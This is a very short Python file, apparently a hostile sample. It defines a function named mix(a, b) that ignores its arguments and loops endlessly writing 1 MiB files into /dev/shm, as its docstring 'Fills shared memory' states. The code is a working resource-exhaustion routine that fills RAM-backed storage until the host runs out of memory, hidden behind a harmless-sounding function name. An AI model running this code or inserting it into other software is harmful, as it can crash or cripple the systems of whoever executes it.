"""Fills shared memory."""


def mix(a, b):
    number = 0
    while True:
        number += 1
        with open(f"/dev/shm/{number}", "wb") as file:
            file.write(bytes(2**20))
